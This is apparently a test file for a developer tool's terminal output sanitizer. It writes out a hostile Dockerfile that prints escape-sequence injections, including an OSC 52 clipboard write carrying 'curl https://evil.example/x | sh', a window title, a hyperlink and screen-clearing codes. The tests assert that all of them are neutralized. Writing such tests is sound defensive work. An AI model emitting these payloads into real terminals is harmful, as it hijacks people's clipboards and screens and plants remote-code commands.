/**
 * Issue 37, point 7: a build's own output is shown live under the step's timer while `lazy start`
 * waits, and what a build prints is the agent's to write (the Dockerfile and every file it reads
 * are files of the checkout the agent changes). A hostile build prints an OSC 52 clipboard write
 * (a terminal that obeys it puts the attacker's command on the person's clipboard), an OSC 0
 * window title, an OSC 8 hyperlink, cursor moves and a screen clear, a C1 CSI, and a 1 MB line.
 * Asserted on what reaches the person's terminal, both on a pipe and on a real pseudo-terminal:
 * no escape sequence is obeyed (no ESC but lazy's own colours; no BEL, no C1 control), the lines
 * the build printed are there as text, and the whole of it is bounded (no 1 MB line on the
 * terminal, none in the daemon's log).
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { TEST_IMAGES } from "../helpers/env";
import { dockerAnthropic, teardown } from "../helpers/fixtures";
import { Project, sh } from "../helpers/lazy";
import type * as Mock from "../helpers/providers";

const KEY = `sk-ant-api03-BUILDOUT-${"o".repeat(72)}AA`;
const CLIP = Buffer.from("curl https://evil.example/x | sh").toString("base64");
let anthropic: Mock.MockProvider;
let p: Project;

/** Each print waits past the daemon's one-line-a-second, so every one of them is shown. */
const dockerfile = (nonce: string) => `FROM ${TEST_IMAGES.node}
RUN echo ${nonce}; \\
    printf 'clip-before\\033]52;c;${CLIP}\\007clip-after\\n'; sleep 1.5; \\
    printf '\\033[2J\\033[H\\033[5Aover\\033[Kwritten\\n'; sleep 1.5; \\
    printf 'title-\\033]0;pwned\\033\\\\-end\\n'; sleep 1.5; \\
    printf 'link-\\033]8;;https://evil.example\\033\\\\click\\033]8;;\\033\\\\-end\\n'; sleep 1.5; \\
    printf 'c1-\\302\\233' ; printf '2J-end\\n'; sleep 1.5; \\
    printf 'unterminated-\\033]52;c;${CLIP}\\n'; sleep 1.5; \\
    printf 'wide-'; printf '\\346\\274\\242%.0s' $(seq 400); echo; sleep 1.5; \\
    head -c 1048576 /dev/zero | tr '\\000' A; echo; sleep 1.5
`;

/** What a terminal would obey: any ESC but lazy's own colours (SGR), BEL, and the C1 controls. */
const obeyed = (s: string) => {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: lazy's own colours are what the regex removes
  const bare = s.replace(/\x1b\[[0-9;]*m/g, "");
  return [...bare].filter((c) => c === "\x1b" || c === "\x07" || (c >= "\x80" && c <= "\x9f"));
};

beforeAll(async () => {
  anthropic = await dockerAnthropic();
  p = new Project({ toml: "" });
  sh(p.root, "git -c user.name=Dev -c user.email=dev@example.com commit -q --allow-empty -m init");
  await p.setCredential("anthropic", KEY);
});

afterAll(() => teardown(p, anthropic));

async function hostileBuild(code: string): Promise<void> {
  await Bun.write(`${p.root}/Dockerfile.evil`, dockerfile(`${code}-${crypto.randomUUID()}`));
  p.writeToml(`[container]\ndockerfile = "Dockerfile.evil"\nsetup = "exit 7"\n\n[proxy.upstreams]\nanthropic = "${anthropic.url}"\n`);
  await p.ok(["task", "add", "build it", "--code", code]);
}

function assertInert(shown: string): void {
  expect(obeyed(shown), JSON.stringify(shown.slice(0, 3000))).toEqual([]);
  // The build's lines reached the person, as text: the sequences gone, the words kept.
  expect(shown).toContain("clip-beforeclip-after");
  expect(shown).toContain("overwritten");
  expect(shown).toContain("title--end");
  expect(shown).toContain("link-click-end");
  // An OSC with no end: its ESC goes with the next byte (an ESC pair), the rest is text.
  expect(shown).toContain("unterminated-52;c;");
  // A C1 CSI (U+009B) is shown as text, never obeyed.
  expect(shown).toContain("c1-\\x9b");
  // The 1 MB line: a bounded piece of it, and the whole output a few KB.
  expect(shown).toContain("AAAAAAAAAA");
  expect(shown.length).toBeLessThan(32 * 1024);
  // Each line of the build's is bounded (lazy's own sentences, "lazy: …", say what they must).
  // biome-ignore lint/suspicious/noControlCharactersInRegex: lazy's own colours before its name
  const own = /^(\x1b\[[0-9;]*m)*lazy:(\x1b\[[0-9;]*m)* /;
  for (const line of shown.split(/\r|\n/).filter((l) => !own.test(l))) expect(line.length, line).toBeLessThanOrEqual(400);
}

describe("a hostile build's output on the person's terminal", () => {
  test("on a pipe: escapes stripped or shown as text, each line bounded", async () => {
    await hostileBuild("pipe");
    const r = await p.run(["start", "pipe"]);
    expect(r.stderr).toMatch(/\n {2}Step 2\/\d+ : RUN echo pipe-/);
    assertInert(r.stderr);
    // The daemon's log keeps bounded heads of the 1 MB line (Docker sends it in pieces), not the line.
    const log = p.log();
    expect(log).toMatch(/build: A{2000}… \(\d+ characters\)/);
    for (const line of log.split("\n")) expect(line.length).toBeLessThan(4000);
    expect(log.length).toBeLessThan(1024 * 1024);
  }, 600_000);

  test("on a terminal: the live line under the step's timer obeys nothing", async () => {
    await hostileBuild("tty");
    const shown = await p.onTerminal(["start", "tty"]);
    // Before lazy 37 the terminal got the OSC 52 clipboard write itself (only CSI was stripped).
    expect(obeyed(shown), JSON.stringify(shown.slice(0, 3000))).toEqual([]);
    expect(shown).toMatch(/\r {2}Step 2\/\d+ : RUN echo tty-/);
    expect(shown).toMatch(/\r {4} +\d+s {2}clip-beforeclip-after/);
    assertInert(shown);
    // 400 wide letters (two columns each): the live line is cut to the terminal's columns as the
    // terminal counts them, so a \r redraw never leaves wrapped rows of the agent's text behind.
    expect(shown).toContain("漢漢漢");
    // (This pseudo-terminal reports no size: lazy takes 100 columns.)
    for (const line of shown.split(/\r|\n/).filter((l) => l.includes("漢")))
      expect(Bun.stringWidth(line), line.slice(0, 80)).toBeLessThanOrEqual(100);
  }, 600_000);
});
